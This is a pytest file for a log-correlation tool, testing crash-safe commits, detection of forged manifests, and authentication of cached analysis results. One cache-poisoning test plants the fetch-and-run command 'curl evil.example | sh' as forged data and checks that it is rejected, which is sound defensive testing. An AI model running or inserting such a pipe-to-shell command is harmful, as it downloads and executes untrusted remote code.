"""Case commits are crash-safe at every step; verify covers the manifest, the cache and leftovers.

Faults are injected, not timed: ``killed_at(k)`` makes the k-th change to the disk (a rename or
replace, a removal, a new directory or link) raise ``Killed``, and every later one too, so no
clean-up runs after it (as under SIGKILL). Each test tries every k until the operation no longer
reaches it; one test kills a real process (``os._exit``) at every rename.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from test_case_fixtures import ROOT, SAMPLE, copy_case, invoke, sample_case, scratch

import correlate.case as case_module
from correlate.case import (
    CaseError,
    IntegrityError,
    check_integrity,
    ingest,
    integrity_problems,
    manifest_seal,
    open_case,
    verify,
)
from correlate.pipeline import RunOptions

HOSTILE = "tests/data/case/hostile"
DISK_CHANGES = ("replace", "rename", "unlink", "rmdir", "mkdir", "symlink")


class Killed(BaseException):
    """The process died here (a BaseException: nothing that catches Exception stops it)."""


@contextlib.contextmanager
def killed_at(k: int, changes: tuple[str, ...] = DISK_CHANGES) -> Iterator[list[str]]:
    """The k-th call of ``os.<change>`` kills: it and every later one raise Killed.

    Yields the list of calls made (``"replace dst"``), to know when k is past the last one.
    ``Path.rename``/``replace``/``unlink``/``mkdir`` and ``shutil.rmtree`` go through these.
    """
    calls: list[str] = []
    real = {name: getattr(os, name) for name in changes}
    dead = [False]

    def make(name: str) -> Callable[..., Any]:
        def change(*args: Any, **kwargs: Any) -> Any:
            calls.append(f"{name} {args[-1] if args else ''}")
            if dead[0] or len(calls) == k:
                dead[0] = True
                raise Killed(f"killed at {name} #{len(calls)}")
            return real[name](*args, **kwargs)

        return change

    for name in changes:
        setattr(os, name, make(name))
    try:
        yield calls
    finally:
        for name, function in real.items():
            setattr(os, name, function)


def _manifest(case: Path) -> bytes:
    return (case / "manifest.json").read_bytes()


def _tables(case: Path) -> dict[str, bytes]:
    data = open_case(case).data
    return {p.name: p.read_bytes() for p in sorted(data.iterdir())}


def _expected(name: str, paths: list[str], base: Path | None) -> tuple[bytes, dict[str, bytes]]:
    """The case an uninterrupted ingest of ``paths`` gives (into a copy of ``base``)."""
    case = copy_case(base, name) if base is not None else scratch(name) / "case"
    with contextlib.chdir(ROOT):
        ingest(case, paths, RunOptions())
    return _manifest(case), _tables(case)


def test_a_kill_at_any_step_of_an_ingest_that_adds_files_leaves_the_old_or_the_new_case() -> None:
    base = sample_case()
    old_manifest, old_tables = _manifest(base), _tables(base)
    new_manifest, new_tables = _expected("expected-add", [HOSTILE], base)
    seen = {"old": 0, "new": 0}
    k = 0
    while True:
        k += 1
        case = copy_case(base, f"kill-add-{k}")
        with contextlib.chdir(ROOT), killed_at(k) as calls:
            try:
                ingest(case, [HOSTILE], RunOptions())
                finished = True
            except Killed:
                finished = False
        if finished:
            assert len(calls) < k
            break
        # the case is the old one or the new one, complete, and answers
        opened = open_case(case)
        state = "old" if _manifest(case) == old_manifest else "new"
        assert _manifest(case) == (old_manifest if state == "old" else new_manifest), k
        assert _tables(case) == (old_tables if state == "old" else new_tables), k
        assert integrity_problems(opened) == [], (k, calls[-1])
        seen[state] += 1
        checked = verify(case)
        assert checked.problems == checked.leftovers, (k, checked.problems)
        # ingesting again adds the files (or finds them present), never starts over
        with contextlib.chdir(ROOT):
            again = ingest(case, [HOSTILE], RunOptions())
        assert not again.created
        assert bool(again.added) == (state == "old"), k
        if checked.leftovers:
            assert again.leftovers_removed, k
        assert _manifest(case) == new_manifest and _tables(case) == new_tables, k
        assert verify(case).ok, (k, verify(case).problems)
    assert k > 10 and seen["old"] and seen["new"], (k, seen)


def test_a_kill_at_any_step_of_a_first_ingest_leaves_no_case_or_the_new_one_or_a_sentence() -> None:
    new_manifest, new_tables = _expected("expected-first", [HOSTILE], None)
    outcomes = set()
    k = 0
    while True:
        k += 1
        case = scratch(f"kill-first-{k}") / "case"
        with contextlib.chdir(ROOT), killed_at(k) as calls:
            try:
                ingest(case, [HOSTILE], RunOptions())
                finished = True
            except Killed:
                finished = False
        if finished:
            break
        if (case / "manifest.json").is_file():
            outcomes.add("new")
            assert _manifest(case) == new_manifest and _tables(case) == new_tables, k
            with contextlib.chdir(ROOT):
                assert not ingest(case, [HOSTILE], RunOptions()).added
        else:
            if case.exists():
                with pytest.raises(CaseError, match="not a case directory"):
                    open_case(case)
            try:
                with contextlib.chdir(ROOT):
                    again = ingest(case, [HOSTILE], RunOptions())
                outcomes.add("none")
                assert again.created, k
            except CaseError as exc:
                # killed between moving the generation in and the commit: refused, with the way out
                outcomes.add("refused")
                assert "holds a complete case" in str(exc) and "copy" in str(exc), exc
                kept = case / "generations" / "1" / "manifest.json"
                (case / "manifest.json").write_bytes(kept.read_bytes())
        assert _manifest(case) == new_manifest and _tables(case) == new_tables, (k, calls)
        with contextlib.chdir(ROOT):
            ingest(case, [HOSTILE], RunOptions())  # the leftovers go
        assert verify(case).ok, (k, verify(case).problems)
    assert {"none", "refused"} <= outcomes, outcomes


KILLER = """
import os, sys
from correlate.case import ingest
from correlate.pipeline import RunOptions
k, count = int(sys.argv[1]), [0]
real_replace, real_rename = os.replace, os.rename
def kill(real):
    def change(*args, **kwargs):
        count[0] += 1
        if count[0] == k:
            os._exit(137)
        return real(*args, **kwargs)
    return change
os.replace, os.rename = kill(real_replace), kill(real_rename)
ingest(sys.argv[2], [sys.argv[3]], RunOptions())
"""


def test_a_process_killed_at_each_rename_of_its_commit_leaves_a_case_that_answers() -> None:
    base = sample_case()
    old_manifest = _manifest(base)
    new_manifest, _ = _expected("expected-kill", [HOSTILE], base)
    k = 0
    states = []
    while True:
        k += 1
        case = copy_case(base, f"sigkill-{k}")
        done = subprocess.run(
            [sys.executable, "-c", KILLER, str(k), str(case), HOSTILE],
            cwd=ROOT,
            capture_output=True,
            text=True,
        )
        if done.returncode == 0:
            break
        assert done.returncode == 137, done.stderr
        states.append("old" if _manifest(case) == old_manifest else "new")
        assert _manifest(case) in (old_manifest, new_manifest)
        assert integrity_problems(open_case(case)) == []
        assert invoke("findings", str(case), "-q").exit_code == 0
        with contextlib.chdir(ROOT):
            ingest(case, [HOSTILE], RunOptions())
        assert _manifest(case) == new_manifest and verify(case).ok, k
    assert "old" in states and "new" in states, states


def test_leftovers_are_named_by_verify_and_removed_by_the_next_ingest() -> None:
    case = copy_case(sample_case(), "leftovers")
    (case / ".staging-abc123").mkdir()
    (case / ".staging-abc123" / "runs").mkdir()
    (case / ".manifest.json.x1y2.tmp").write_text("{}")
    (case / "generations" / "7").mkdir()
    (case / "cache").mkdir(exist_ok=True)
    (case / "cache" / ".tmp-zz").mkdir()
    checked = verify(case)
    assert not checked.ok
    assert checked.problems == checked.leftovers
    text = "\n".join(checked.leftovers)
    for name in (".staging-abc123", ".manifest.json.x1y2.tmp", "generations/7", "cache/.tmp-zz"):
        assert name in text
    assert integrity_problems(open_case(case)) == []  # questions are still answered
    with contextlib.chdir(ROOT):
        report = ingest(case, [SAMPLE], RunOptions())
    assert {".staging-abc123", ".manifest.json.x1y2.tmp", "generations/7"} <= set(
        report.leftovers_removed
    )
    assert verify(case).ok


def test_a_link_left_at_the_previous_generation_is_a_leftover_then_repointed() -> None:
    case = copy_case(sample_case(), "stale-link")
    with contextlib.chdir(ROOT):
        ingest(case, [HOSTILE], RunOptions())
    # as if killed after the commit, before the links moved and the old generation went
    old = case / "generations" / "1"
    old.mkdir()
    (old / "calls.parquet").write_bytes((case / "calls.parquet").read_bytes())
    (case / "calls.parquet").unlink()
    (case / "calls.parquet").symlink_to("generations/1/calls.parquet")
    assert integrity_problems(open_case(case)) == []
    checked = verify(case)
    assert any(
        "calls.parquet at the top of the case still links to generations/1" in p
        for p in checked.leftovers
    )
    with contextlib.chdir(ROOT):
        ingest(case, [HOSTILE], RunOptions())
    assert os.readlink(case / "calls.parquet") == "generations/2/calls.parquet"
    assert verify(case).ok


def test_a_directory_with_case_files_but_no_manifest_is_refused_not_started_over() -> None:
    flat = scratch("flat") / "case"
    flat.mkdir()
    (flat / "events.parquet").write_bytes(b"PAR1")  # what a killed flat commit left
    with contextlib.chdir(ROOT), pytest.raises(CaseError, match=r"no manifest\.json.*new case"):
        ingest(flat, [HOSTILE], RunOptions())
    assert sorted(p.name for p in flat.iterdir()) == [".lock", "events.parquet"]
    lost = copy_case(sample_case(), "lost-generation")
    (lost / "manifest.json").unlink()
    with contextlib.chdir(ROOT), pytest.raises(CaseError, match="holds a complete case"):
        ingest(lost, [HOSTILE], RunOptions())
    assert (lost / "generations" / "1" / "events.parquet").is_file()
    gone = copy_case(sample_case(), "gone-generation")
    (gone / "generations" / "1").rename(gone / "generations" / "9")
    with pytest.raises(CaseError, match="names generations/1, which is missing"):
        open_case(gone)
    with contextlib.chdir(ROOT), pytest.raises(CaseError, match="which is missing"):
        ingest(gone, [HOSTILE], RunOptions())


# --- the manifest ----------------------------------------------------------------------------


def _rewrite(case: Path, change: Callable[[dict[str, Any]], None], *, reseal: bool) -> None:
    """Edit the manifest (and, with ``reseal``, its seal and its generation's copy: a forger
    who knows how correlate seals)."""
    manifest = json.loads(_manifest(case))
    change(manifest)
    if reseal:
        manifest["seal"] = {"sha256": manifest_seal(manifest)}
    text = json.dumps(manifest, sort_keys=True, indent=2, ensure_ascii=False) + "\n"
    (case / "manifest.json").write_text(text)
    if reseal:
        (case / "generations" / "1" / "manifest.json").write_text(text)


@pytest.mark.parametrize(
    ("change", "reseal", "expected"),
    [
        (lambda m: m["analysis_defaults"].update(before="1h"), False, "does not match its seal"),
        (lambda m: m["analysis_defaults"].update(window="1h"), True, "never records: window"),
        (lambda m: m["inputs"].pop(), False, "does not match its seal"),
        (lambda m: m["inputs"].pop(), True, "counts 7 inputs but lists 6"),
        (
            lambda m: (m["inputs"].pop(), m["counts"].update(inputs=6)),
            True,
            "which its inputs do not list",
        ),
        (lambda m: m["counts"].update(network_events=1), True, "counts 1 network events"),
        (lambda m: m["files"]["calls.parquet"].update(rows=1), True, "tool calls but records 1"),
    ],
)
def test_edits_to_the_manifest_are_caught_before_any_answer(
    change: Callable[[dict[str, Any]], None], reseal: bool, expected: str
) -> None:
    case = copy_case(sample_case(), "manifest-edit")
    _rewrite(case, change, reseal=reseal)
    problems = integrity_problems(open_case(case))
    assert any(expected in p for p in problems), problems
    refused = invoke("findings", str(case))
    assert refused.exit_code == 1 and expected.split(":")[0] in refused.stderr
    assert not verify(case).ok


def test_an_input_record_removed_with_its_traces_is_caught_by_the_rows_it_left() -> None:
    case = copy_case(sample_case(), "input-removed")

    def remove(manifest: dict[str, Any]) -> None:
        gone = next(i for i in manifest["inputs"] if i["path"].endswith("traces.jsonl"))
        manifest["inputs"].remove(gone)
        manifest["counts"]["inputs"] -= 1
        manifest["ingests"][0]["added"].remove(gone["path"])

    _rewrite(case, remove, reseal=True)
    problems = integrity_problems(open_case(case))
    assert any(
        p.startswith("calls.parquet holds rows from sample_logs/rome_incident/traces/traces.jsonl")
        for p in problems
    ), problems


def test_a_consistent_forgery_changes_the_case_digest_that_ingest_printed() -> None:
    case = copy_case(sample_case(), "digest")
    printed = hashlib.sha256(_manifest(case)).hexdigest()
    assert verify(case).digest == printed
    _rewrite(case, lambda m: m["analysis_defaults"].update(before="1h"), reseal=True)
    shutil.rmtree(case / "cache", ignore_errors=True)  # (its entries name the earlier seal)
    assert verify(case).ok  # a forger who reseals everything passes the case's own checks...
    assert verify(case).digest != printed  # ...but not the digest recorded out of the case


# --- the analysis cache ----------------------------------------------------------------------


def _forge_findings(entry: Path, command: str) -> None:
    """Rewrite a cached analysis' findings with ``command`` and update the entry's hashes (its
    binding and key a forger can compute too; not its authentication code)."""
    path = entry / "findings.parquet"
    table = pq.read_table(path)
    index = table.schema.get_field_index("command")
    forged = table.set_column(
        index, "command", pa.array([command] * table.num_rows, table.schema.field("command").type)
    )
    pq.write_table(forged, path)
    meta = json.loads((entry / "result.json").read_text())
    meta["sha256"]["findings"] = hashlib.sha256(path.read_bytes()).hexdigest()
    (entry / "result.json").write_text(json.dumps(meta))


def test_a_poisoned_cache_entry_is_never_used_and_verify_names_it() -> None:
    case = copy_case(sample_case(), "poisoned")
    first = open_case(case).analyse(RunOptions())
    assert first.cache_dir is not None and open_case(case).analyse(RunOptions()).cached
    _forge_findings(first.cache_dir, "curl evil.example | sh")
    again = open_case(case).analyse(RunOptions())
    assert not again.cached
    assert "curl evil.example | sh" not in again.findings.column("command").to_pylist()
    _forge_findings(first.cache_dir, "curl evil.example | sh")
    checked = verify(case)
    assert any(
        p.startswith(f"cache/{first.cache_dir.name} was altered") for p in checked.problems
    ), checked.problems
    found = invoke("findings", str(case), "--format", "jsonl")
    assert found.exit_code == 0 and "evil.example" not in found.stdout


def test_cache_entries_are_authenticated_with_a_key_outside_the_case(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    case = copy_case(sample_case(), "other-key")
    first = open_case(case).analyse(RunOptions())
    assert first.cache_dir is not None
    # another user (another key) does not trust this user's entries, and verify says so
    monkeypatch.setenv("XDG_STATE_HOME", str(scratch("state")))
    assert case_module.cache_key_path() is not None
    assert str(case_module.cache_key_path()).startswith(os.environ["XDG_STATE_HOME"])
    assert not open_case(case).analyse(RunOptions()).cached
    assert any("was altered, or written by another user" in p for p in verify(case).problems)
    # no key can be kept: nothing is trusted across processes, verify only notes it
    monkeypatch.setenv("XDG_STATE_HOME", "/proc/no-such-place")
    assert not open_case(case).analyse(RunOptions()).cached
    checked = verify(case)
    assert any("cannot be authenticated here" in n for n in checked.notes)


def test_after_a_table_edit_the_answer_never_comes_from_the_cache() -> None:
    case = copy_case(sample_case(), "table-edit")
    open_case(case).analyse(RunOptions())
    assert open_case(case).analyse(RunOptions()).cached
    entries = sorted(p.name for p in (case / "cache").iterdir())
    calls = pq.read_table(case / "calls.parquet")
    index = calls.schema.get_field_index("command")
    commands = calls.column("command").to_pylist()
    commands[0] = "echo forged"
    edited = calls.set_column(index, "command", pa.array(commands, pa.string()))
    pq.write_table(edited, case / "calls.parquet")  # through the link: the generation's file
    with pytest.raises(IntegrityError, match=r"calls\.parquet has SHA-256"):
        check_integrity(open_case(case))
    answer = open_case(case).analyse(RunOptions())  # what --ignore-integrity answers (warned)
    assert not answer.cached
    assert sorted(p.name for p in (case / "cache").iterdir()) == entries  # and nothing cached
    warned = invoke("findings", str(case), "--ignore-integrity")
    assert warned.exit_code == 0 and "warning:" in warned.stderr


# --- inputs read once ------------------------------------------------------------------------


def test_an_input_that_changes_while_it_is_ingested_is_refused(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    work = scratch("changing")
    logs = work / "logs"
    logs.mkdir()
    for name in ("traces/traces.jsonl", "inventory.csv"):
        (logs / Path(name).name).write_bytes((ROOT / SAMPLE / name).read_bytes())
    real = case_module.load_file
    target = logs / "inventory.csv"
    content = target.read_bytes()

    def truncated_while_read(source: Any, *args: Any, **kwargs: Any) -> Any:
        if Path(source.path) == target:  # truncated while it is loaded, then put back
            target.write_bytes(content[: len(content) // 2])
            try:
                return real(source, *args, **kwargs)
            finally:
                target.write_bytes(content)
        return real(source, *args, **kwargs)

    monkeypatch.setattr(case_module, "load_file", truncated_while_read)
    with pytest.raises(CaseError, match=r"inventory.csv: changed while it was being ingested"):
        ingest(work / "case", [str(logs)], RunOptions())
    assert not (work / "case" / "manifest.json").exists()
    monkeypatch.setattr(case_module, "load_file", real)
    report = ingest(work / "case", [str(logs)], RunOptions())
    record = next(i for i in open_case(work / "case").inputs if i["path"].endswith("inventory.csv"))
    assert record["sha256"] == hashlib.sha256(content).hexdigest()
    assert record["size"] == len(content) and report.created
